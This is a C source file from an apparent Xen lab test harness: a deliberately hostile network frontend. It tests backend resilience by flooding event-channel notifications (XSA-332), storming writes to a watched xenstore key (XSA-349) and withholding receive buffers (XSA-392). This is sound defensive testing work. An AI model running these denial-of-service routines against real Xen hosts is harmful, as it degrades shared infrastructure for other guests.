// SPDX-License-Identifier: GPL-2.0
/*
 * xen-netfront-hostile: denial of service. Notifications that bring no
 * work (XSA-332), a storm of writes to a key the backend watches
 * (XSA-349), and receive buffers never posted while traffic comes in
 * (XSA-392). None of these breaks the protocol: a backend must bound what
 * each costs it, not disable the vif.
 */
#include <linux/jiffies.h>
#include <linux/kthread.h>
#include <linux/sched.h>

#include "hostile.h"

/*
 * Notify the backend for the whole attack, on the RX channel if rx (the
 * same one unless split); returns how often.
 */
static unsigned long hostile_kick_storm(struct hostile *h, bool rx)
{
	unsigned long end = jiffies + msecs_to_jiffies(hostile_attack_ms);
	unsigned long n = 0;

	while (time_before(jiffies, end) && !kthread_should_stop()) {
		if (rx)
			hostile_kick_rx(h);
		else
			hostile_kick(h);
		if (!(++n % 256))
			cond_resched();
	}
	return n;
}

int hostile_evt_flood(struct hostile *h)
{
	pr_warn("%s: evt_flood: %lu notifications without work\n",
		h->dev->nodename, hostile_kick_storm(h, false));
	return 0;
}

int hostile_xs_flood(struct hostile *h)
{
	unsigned long end = jiffies + msecs_to_jiffies(hostile_attack_ms);
	unsigned long n = 0;
	int err = 0;

	while (!err && time_before(jiffies, end) && !kthread_should_stop()) {
		err = xenbus_printf(XBT_NIL, h->dev->nodename,
				    XEN_NETIF_KEY_REQUEST_MCAST_CTRL, "%lu",
				    n++ & 1);
		cond_resched();
	}
	pr_warn("%s: xs_flood: %lu writes of %s (%d)\n", h->dev->nodename, n,
		XEN_NETIF_KEY_REQUEST_MCAST_CTRL, err);
	return err;
}

/*
 * XSA-332 while the backend holds packets for us: no receive buffers
 * (HOSTILE_NO_RX_BUFS) while the lab sends broadcasts, and events in a
 * loop. None brings new requests, so every one must be spurious and
 * throttled, however many packets wait or however stalled the queue is.
 */
int hostile_rx_evt_flood(struct hostile *h)
{
	pr_warn("%s: evt_flood: %lu notifications without work, no receive buffers\n",
		h->dev->nodename, hostile_kick_storm(h, true));
	return 0;
}

/* HOSTILE_NO_RX_BUFS does the work: the lab sends the traffic. */
int hostile_stall(struct hostile *h)
{
	pr_warn("%s: stall: no receive buffers will ever be posted\n",
		h->dev->nodename);
	return 0;
}
